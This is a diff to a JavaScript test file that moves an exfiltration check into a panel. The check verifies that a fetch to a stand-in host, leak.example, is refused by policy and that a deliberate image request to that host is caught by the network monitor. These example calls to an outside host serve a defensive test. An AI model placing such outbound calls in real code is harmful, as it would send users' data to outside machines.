@@ -91,14 +91,16 @@ export const steps = {
     assert.equal(await session.workerRuns(), true);
   },
 
-  'our own pages may ask nobody, and the net holds: what went out all the same would be seen': async (session) => {
-    const answer = await session.ask(() => fetch('https://leak.example/data').then(() => 'answered', () => 'refused'));
+  'the panel may ask nobody, and the net holds: what went out all the same would be seen': async (session) => {
+    const panel = await session.openPanel(undefined, '#/people');
+    const answer = await panel.evaluate(() => fetch('https://leak.example/data').then(() => 'answered', () => 'refused'));
     assert.equal(answer, 'refused');
     assert.deepEqual(session.network.leaks, [], 'the policy keeps it in');
     // pictures of other machines are allowed: by one of those we see that the net would catch what gets through
     await session.ask(() => { new Image().src = 'https://leak.example/picture'; });
     await until(() => session.network.leaks.some((one) => one.includes('leak.example/picture')), 'the leak to be noted');
     session.network.leaks.length = 0;
+    await panel.close();
   },
 
   'no file of the build names another machine': () => {
